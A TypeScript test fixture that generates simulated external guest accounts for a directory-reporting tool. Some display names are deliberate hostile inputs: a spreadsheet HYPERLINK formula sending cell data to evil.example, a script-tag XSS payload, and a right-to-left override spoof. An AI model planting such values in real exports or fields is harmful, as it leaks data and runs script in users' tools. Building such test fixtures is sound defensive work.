import type { Frame } from '../frame.ts'
import { type AccountSketch, unlicensed } from '../users.ts'

interface Visitor {
  readonly name: string
  readonly displayName: string
  readonly mail: string
  readonly state?: 'Accepted' | 'PendingAcceptance'
  readonly issuer?: string
  readonly lastSignIn?: number | null
  readonly fields?: Record<string, unknown>
}

const rightToLeftOverride = '\u202e'

/** External accounts. Two thirds of them exist to be misread by somebody's report. */
const visitors: readonly Visitor[] = [
  { name: 'acceptedGuest', displayName: 'Ella Brandt', mail: 'ella.brandt@packaging.example', lastSignIn: 9 },
  {
    name: 'mailOtpGuest',
    displayName: 'Joost de Vries',
    mail: 'joost@smallfarm.example',
    issuer: 'mail',
    lastSignIn: 44,
  },
  {
    name: 'pendingGuest',
    displayName: 'Omar Haddad',
    mail: 'omar@logistics.example',
    state: 'PendingAcceptance',
    lastSignIn: null,
  },
  {
    name: 'staleGuest',
    displayName: 'Ruth Coleman',
    mail: 'ruth.coleman@formerpartner.example',
    lastSignIn: 520,
  },
  { name: 'guestInRole', displayName: 'Victor Amsel', mail: 'victor@auditpartners.example', lastSignIn: 30 },
  {
    name: 'externalMember',
    displayName: 'Jo Park',
    mail: 'jo.park@sistercompany.example',
    lastSignIn: 2,
    // userType says nothing about where an account lives (identity reference, section e, rule 1).
    fields: { userType: 'Member', department: 'Sales' },
  },
  {
    name: 'formulaGuest',
    displayName: '=HYPERLINK("https://evil.example/?x="&A1,"Invoice")',
    mail: 'formula@hostile.example',
  },
  { name: 'scriptGuest', displayName: '<script>alert(1)</script>', mail: 'script@hostile.example' },
  {
    name: 'reversedGuest',
    displayName: `Anna ${rightToLeftOverride}nimda evitcA`,
    mail: 'reversed@hostile.example',
  },
]

export function guests({ methods, calendar, initialDomain }: Frame): AccountSketch[] {
  return visitors.map((visitor) => {
    const state = visitor.state ?? 'Accepted'
    return {
      name: visitor.name,
      displayName: visitor.displayName,
      userPrincipalName: `${visitor.mail.replace('@', '_')}#EXT#@${initialDomain}`,
      lastSignIn: visitor.lastSignIn === undefined ? 25 : visitor.lastSignIn,
      methods: visitor.name === 'acceptedGuest' ? [methods(visitor.name).authenticator('Ella phone')] : [],
      fields: {
        ...unlicensed,
        userType: 'Guest',
        creationType: 'Invitation',
        externalUserState: state,
        externalUserStateChangeDateTime: calendar.daysAgo(600),
        identities: state === 'Accepted' ? [identity(visitor)] : [],
        mail: visitor.mail,
        otherMails: [visitor.mail],
        lastPasswordChangeDateTime: calendar.daysAgo(600),
        ...visitor.fields,
      },
    }
  })
}

function identity({ issuer = 'ExternalAzureAD', mail }: Visitor) {
  return { signInType: 'federated', issuer, issuerAssignedId: issuer === 'mail' ? mail : null }
}
